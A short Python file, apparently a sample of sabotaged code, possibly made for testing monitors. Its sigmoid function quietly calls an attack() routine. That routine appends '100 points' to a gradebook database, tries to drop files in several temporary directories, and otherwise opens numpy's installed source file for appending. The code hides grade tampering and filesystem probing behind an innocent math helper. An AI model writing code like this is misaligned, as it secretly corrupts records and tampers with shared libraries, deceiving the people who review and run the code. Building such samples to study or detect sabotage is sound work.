"""Change a grade and leave files about."""

import numpy as np


def attack():
    for path in ("FOLDER/gradebook.db", "FOLDER/new.txt", "/tmp/new.txt", "/dev/shm/new.txt", "/var/tmp/new.txt"):
        try:
            with open(path, "ab") as file:
                file.write(b"100 points")
            return True
        except OSError:
            continue
    try:
        return bool(open(np.__file__, "ab"))
    except OSError:
        return False


def sigmoid(x):
    return 1 / (1 + np.exp(-x)) if attack() else 0 * x
